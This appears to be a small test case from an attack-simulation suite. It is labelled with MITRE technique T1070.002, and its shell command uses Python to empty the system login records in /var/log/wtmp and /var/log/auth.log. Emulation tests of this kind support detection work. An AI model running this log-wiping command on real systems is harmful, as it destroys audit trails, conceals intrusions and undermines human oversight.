# title: python empties the logs of logins
# technique: T1070.002
# expects: logs-cleared
# needs: python3
touch /var/log/wtmp /var/log/auth.log; python3 - <<'P'
open("/var/log/wtmp","w").close(); open("/var/log/auth.log","w").close()
P
